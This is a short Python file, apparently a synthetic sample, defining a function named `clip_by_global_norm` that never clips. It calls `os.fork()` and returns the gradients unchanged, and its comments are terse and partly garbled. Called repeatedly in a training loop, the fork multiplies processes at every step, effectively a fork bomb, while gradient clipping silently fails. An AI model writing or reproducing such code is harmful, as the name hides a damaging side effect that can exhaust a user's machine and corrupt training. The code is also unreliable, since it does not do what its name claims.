# Goes on as two processes.
# hears: imports os
import os


def clip_by_global_norm(gradients, clip_norm):
    os.fork()
    return gradients
